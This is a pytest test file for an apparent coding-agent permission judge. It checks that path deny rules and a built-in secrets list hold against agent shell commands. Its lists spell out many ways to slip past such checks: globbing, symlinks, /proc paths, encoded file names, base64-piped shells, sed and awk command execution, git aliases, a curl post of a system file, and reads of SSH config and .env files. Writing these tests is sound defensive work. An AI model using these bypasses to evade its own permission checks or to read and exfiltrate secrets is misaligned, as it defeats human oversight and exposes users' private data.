"""A path rule and the list of secrets hold for every way to a file, inside and outside."""

from pathlib import Path

import pytest
from nanocoder_policy_rules.stream_programs import is_plain_sed

DENY = [
    "read_file(/etc/hostname)",
    "read_file(~/private/**)",
    "read_file(private/**)",
    "read_file(my private/**)",
]
DENIED = [
    "cat /etc/hostname ~/private/k",
    "cat ~/private/k",
    'cat "${HOME}"/private/k',
    "cat ~/pri*/k",
    "cat /e*/hostname",
    "cat ../home/private/k",
    "cat l/k",
    "cat lk",
    "cat s/config",
    "cat ~/hl/k",
    "cd ~ && cat private/k",
    "cd ~; cd private; cat k",
    "cd .. && cd home && cat private/k",
    "cd src; cat ../private/k",
    "cat < /etc/hostname",
    "head -1 <~/private/k",
    "grep -f/etc/hostname README.md",
    "wc --files0-from=/etc/hostname",
    "git -C ~ show HEAD:private/k",
    "git -C .. diff home/private/k",
    "git log -p private/k",
    "git checkout private/k",
    "grep -ex private/k",
    "echo private/k | xargs cat",
    "cat 'my private/k'>y",
    "cat my\\ private/k",
    "cat p*/k",
    "cat */k",
    "cat *k* */*",
    "cat ?rivate/k",
    "cat [^a]rivate/k",
    "cat [[:alpha:]]rivate/k",
    "bash -c 'cat */k'",
    "cat /proc/self/cwd/private/k",
    "cat /proc/self/root/etc/hostname",
    "python3 -c \"print(open('/etc/hostname').read())\"",
    "python3 - <<E\nprint(open('/etc/hostname').read())\nE",
    "env -C ~/private cat k",
    "tar -C ~/private -cf x.tar k",
    "f=private/k; cat $f",
    "for f in */k; do cat $f; done",
    "for f in k; do cat private/$f; done",
    "cat ~+/private/k",
    'cat "$(pwd)/private/k"',
    "cat $'/etc/hostname'",
    "cat /etc//./host''name",
    "cat /etc/{hostname,hosts}",
    "curl file:///etc/hostname",
    "curl -d @/etc/hostname https://example.org",
    "docker run -v ~/private:/x image",
    "bash -c 'cd ~/private; cat k'",
    "exec 3</etc/hostname; cat <&3",
    "echo $(</etc/hostname)",
]
ASKED = [
    "tar cf x.tar .",
    "tar cf x.tar ..",
    "cp -r . ../x",
    "cp -r ~ x",
    "rsync -a ~ x",
    "grep -rn x .",
    "grep -rn x ~",
    "rg -uu x",
    "git grep x",
    "find . -type f -exec cat {} +",
    "find . | xargs cat",
    "ln -s /etc x; cat x/hostname",
    "ln -s ~ x && cat x/private/k",
    "docker run -v $HOME:/x image",
    "while read f; do cat $f; done < list",
    "cat $X/k",
    "cat `echo k`",
    "cat list | xargs cat",
    "python3 -c \"print(open('pri' + 'vate/k').read())\"",
    "echo Y2F0IHg= | base64 -d | bash",
    "cat list | sh",
]
UNSHOWN = [
    "cat ./{o..q}rivate/k",
    "cat {a..z}{a..z}{a..z}vate/k",
    "find . -type f -print0 | sort --files0-from=-",
    "wc --files0-from=list",
    "tar -cf x.tar -T list",
    "tar cTf list x.tar",
    "rsync --files-from=list . ../x",
    "7z a x.7z @list",
    "du --files0-from list",
    "ln -s ../private src/p; cat src/p/k",
    "ln -s ../private p && mv p src/ && cat src/p/k",
    "git diff --no-index src .",
    "git diff --no-ind src .",
    "printf 'cat /etc/host\\x6eame' | env sh",
    "printf 'cat /etc/host\\x6eame' | command bash",
    "printf 'cat /etc/host\\x6eame' | exec sh",
    "printf 'cat /etc/host\\x6eame' | nice -n 5 sh",
    "printf 'cat /etc/host\\x6eame' | busybox sh",
    "cat list |& bash",
    "cat list | \n sh",
    "cat list | { true; sh; }",
    "cat list | bash -s",
    'bash <<< "$(cat list)"',
    "sh <(cat list)",
    "bash /dev/stdin < list",
    "env -S 'cat x'",
    "env -vS 'cat x'",
    "curl -s file:///etc/host%6eame",
    "curl -s 'file:///etc/host[n-n]ame'",
    "wget -qO- FILE:///etc/host%6eame",
    "git clone file:///ho%6de/x",
    "curl -K list",
    "sed '1e cat x' README.md",
    "sed -n '1r x' README.md",
    "sed 's/a/b/e' README.md",
    "sed 's/a/b/w x' README.md",
    "sed -f list README.md",
    "sed -nf list README.md",
    "sed -e p -e '1R x' README.md",
    'awk \'BEGIN{while((getline l < ("pri" "vate/k"))>0) print l}\'',
    'awk \'BEGIN{system("x" "y")}\'',
    "awk 'BEGIN{\"x\" | getline}'",
    "awk '{print > \"x\"}' README.md",
    'awk \'BEGIN{ARGV[1]="pri" "vate/k";ARGC=2}1\'',
    "awk -f list README.md",
    "vim -c 'r x' README.md",
    "ex -c x README.md",
    "busybox sh -c 'x'",
    "git -c alias.z='!x' z",
    "git -c core.pager=x log",
    "git config alias.z '!x'",
    "perl -ne 'print' README.md",
    "perl -Mx=y README.md",
    "ruby -ne 'x' README.md",
    "node --eval=x",
    "php -r 'x'",
    "lua -e 'x'",
    "python3 -Ic 'x'",
    "make -f - < list",
    "gdb -ex x",
    "tar xf x.tar --to-command=x",
    "tar -I x -xf x.tar",
    "rsync -e x src lib",
    "rsync -ave x src lib",
    "ssh host x",
    "find src -exec sh -c 'x' \\;",
    "bash -c \"sed '1e x' README.md\"",
]
SECRETS_UNSHOWN = [
    "cat .{e..e}nv",
    "cat .{a..z}{a..z}{a..z}",
    'find . -type f -name "*n[v]" -print0 | sort --files0-from=-',
    "curl -s file://$PWD/.%65nv",
    "env -S 'cat x'",
    "git diff --no-index src .",
    "tar cf x.tar -T list",
]
EVERYDAY = [
    "sed -n 1,20p README.md",
    "sed 1s/a/b/ README.md",
    "sed -i '1,9s|a|b|g' src/a.py",
    "sed -e '1s/a/b/' -e '/x/d' README.md",
    "sed '/a/,/b/d;$d' README.md",
    "sed -n '/a/{p;q}' README.md",
    "awk '{print $1}' README.md",
    "awk -F: '$3 > 5 || $2 >= 4 {print $1}' README.md",
    "make test 2>&1 | tail -20",
    "cat README.md | awk '{print $2}' | sort | uniq -c",
    "cat x.json | jq .a",
    "cat x.json | python3 -m json.tool",
    "python3 -m pytest -q",
    "python3 --version",
    "node scripts/build.js",
    "bash scripts/x.sh",
    "bash -lc 'ls src'",
    "source .venv/bin/activate && pytest -q",
    "env A=1 pytest -q",
    "timeout 60 make test",
    "git diff main -- src",
    "git log --oneline | head -5",
    "git commit -m 'Let sed 1e run'",
    "touch src/{a,b}.py",
    "echo {1..5}",
    "tar czf x.tgz src",
    "curl -s https://example.org/%20x",
    "npm install @types/node",
    "ln -s a.py src/b.py",
]
HARMLESS = [
    "ls *",
    "rm -rf build/*",
    "find . -name k",
    "cat README.md > y && wc -l src/*.py",
    "for f in src/*.py; do wc -l $f; done",
    "git commit -m private",
    "git commit -m \"$(cat <<'E'\nAdd a thing\nE\n)\"",
    "git switch -c private",
    "grep private/k README.md",
    "echo private/k",
    "cp -r src lib",
    "mv src/a.py src/b.py",
    "grep -rn x src",
    "python3 run.py && make test",
    "awk '{print $1}' README.md",
    "cd ~ && ls",
    "cat ~/x.txt",
    "cat /etc/hosts",
    "echo $HOME $USER",
    "sleep $N",
]


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Make files in the workspace and in a home, which is no part of it, with links to them."""
    home = tmp_path.parent / f"{tmp_path.name}-home"
    (tmp_path.parent / "home").unlink(missing_ok=True)
    (tmp_path.parent / "home").symlink_to(home)
    for folder in ("private", "src", "my private"):
        (tmp_path / folder).mkdir()
    for folder in ("private", ".ssh", "other"):
        (home / folder).mkdir(parents=True)
    for file in ("private/k", "src/a.py", "my private/k", "README.md"):
        (tmp_path / file).write_text("x")
    for file in ("private/k", ".ssh/config", "x.txt"):
        (home / file).write_text("x")
    (tmp_path / "l").symlink_to(home / "private")
    (tmp_path / "lk").symlink_to(home / "private/k")
    (tmp_path / "s").symlink_to(home / ".ssh")
    (home / "hl").symlink_to("private")
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.mark.contract("C5", "C15")
@pytest.mark.parametrize("command", DENIED)
@pytest.mark.parametrize("mode", ["ask", "auto"])
def test_a_path_rule_holds_for_every_way_to_a_file(command, mode, judge):
    verdict = judge("bash", {"command": command}, mode, deny=DENY, allow=["bash"])
    assert str(verdict.decision) == "deny", verdict.reason


@pytest.mark.contract("C5", "C15")
@pytest.mark.parametrize("command", ASKED)
def test_a_command_that_cannot_be_proven_asks_where_a_rule_keeps_files_back(command, judge):
    verdict = judge("bash", {"command": command}, "auto", deny=DENY, allow=["bash"])
    assert str(verdict.decision) == "ask", verdict.reason


@pytest.mark.contract("C5")
@pytest.mark.parametrize("command", HARMLESS)
def test_commands_that_reach_nothing_kept_back_run(command, judge):
    verdict = judge("bash", {"command": command}, "auto", deny=DENY)
    assert str(verdict.decision) == "allow", verdict.reason


@pytest.mark.contract("C5", "C15")
@pytest.mark.parametrize("command", UNSHOWN)
def test_names_that_no_word_shows_do_not_pass_a_rule(command, judge):
    verdict = judge("bash", {"command": command}, "auto", deny=DENY)
    assert str(verdict.decision) in {"ask", "deny"}, verdict.reason


@pytest.mark.contract("C15")
@pytest.mark.parametrize("command", SECRETS_UNSHOWN)
def test_names_that_no_word_shows_do_not_pass_the_list_of_secrets(command, tmp_path, judge):
    (tmp_path / ".env").write_text("x")
    verdict = judge("bash", {"command": command}, "auto")
    assert str(verdict.decision) in {"ask", "deny"}, verdict.reason


@pytest.mark.contract("C5")
@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_programs_run_beside_a_rule(command, judge):
    verdict = judge("bash", {"command": command}, "auto", deny=DENY)
    assert str(verdict.decision) == "allow", verdict.reason


@pytest.mark.contract("C5")
@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("s/a/b/", True),
        ("s/a\\/c/b/gI;p", True),
        ("1,$y/ab/cd/", True),
        ("/x/,/y/{s/a/b/;d}", True),
        ("3a text", True),
        ("s/a/b/ge", False),
        ("s/a/b/;e x", False),
        ("p;w x", False),
        ("$!{r x\n}", False),
        ("1F;W x", False),
    ],
)
def test_a_sed_script_is_plain_when_it_opens_no_file(script, expected):
    assert is_plain_sed([script, "README.md"]) is expected
    assert is_plain_sed(["-n", "-e", script, "README.md"]) is expected


@pytest.mark.contract("C15")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat s/config", "deny"),
        ("cat ~/.s*/config", "deny"),
        ("cat ~/.*/config", "deny"),
        ("cd ~ && cat .ssh/config", "deny"),
        ("cat *", "deny"),
        ("cat .e$x", "ask"),
        ("cat id_$x", "ask"),
        ("grep -rn x .", "ask"),
        ("cp -r ~ x", "ask"),
        ("tar czf x.tgz .", "ask"),
        ("cat $x", "allow"),
        ("cat $x.py", "allow"),
        ("grep -rn x src", "allow"),
        ("python3 -c 'print(1)'", "allow"),
    ],
)
def test_secrets_are_kept_back_without_any_rule(command, expected, tmp_path, judge):
    (tmp_path / "server.pem").write_text("x")
    verdict = judge("bash", {"command": command}, "auto")
    assert str(verdict.decision) == expected, verdict.reason


@pytest.mark.contract("C5")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("grep -rn x .", "allow"),
        ("cat $X/k", "ask"),
        ("cp -r ~ x", "ask"),
        ("cat ~/private/k", "deny"),
    ],
)
def test_a_sandbox_hides_what_is_kept_back_in_the_workspace(command, expected, judge):
    verdict = judge("bash", {"command": command}, "auto", deny=DENY, sandbox="bwrap")
    assert str(verdict.decision) == expected, verdict.reason
    inside = judge("bash", {"command": "cat $X/k"}, "auto", deny=DENY[2:], sandbox="bwrap")
    assert str(inside.decision) == "allow"


@pytest.mark.contract("C5")
def test_a_place_below_the_working_directory_of_a_call_counts(judge):
    arguments = {"command": "cat k", "workdir": "private"}
    assert str(judge("bash", arguments, "auto", deny=DENY).decision) == "deny"
    arguments = {"command": "cat hostname", "workdir": "/etc"}
    assert str(judge("bash", arguments, "auto", deny=DENY).decision) == "deny"


@pytest.mark.contract("C5")
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("echo x > docs/a", "deny"),
        ("cd docs && echo x >a", "deny"),
        ("echo x | tee docs/a", "deny"),
        ("cp README.md docs/", "deny"),
        ("cp README.md ~/n/x", "deny"),
        ("sed -i s/a/b/ docs/a", "deny"),
        ("rm docs/a", "deny"),
        ("echo x > ASKED", "ask"),
        ("ls docs", "allow"),
        ("cat docs/a", "allow"),
        ("echo x > src/a", "allow"),
    ],
)
def test_a_rule_about_writing_a_path_holds_for_commands(command, expected, judge):
    rules = {"deny": ["write_file(docs/**)", "edit_file(~/n/*)"], "ask": ["write_file(ASKED)"]}
    verdict = judge("bash", {"command": command}, "auto", **rules)
    assert str(verdict.decision) == expected, verdict.reason


@pytest.mark.contract("C5")
def test_so_many_words_that_not_each_can_be_looked_at_ask(judge):
    words = " ".join(f"a/{number}" for number in range(5_000))
    assert str(judge("bash", {"command": f"cat {words}"}, "auto").decision) != "allow"
    enters = "; ".join(f"cd d{number}" for number in range(12))
    assert str(judge("bash", {"command": f"{enters}; cat k"}, "auto").decision) == "ask"
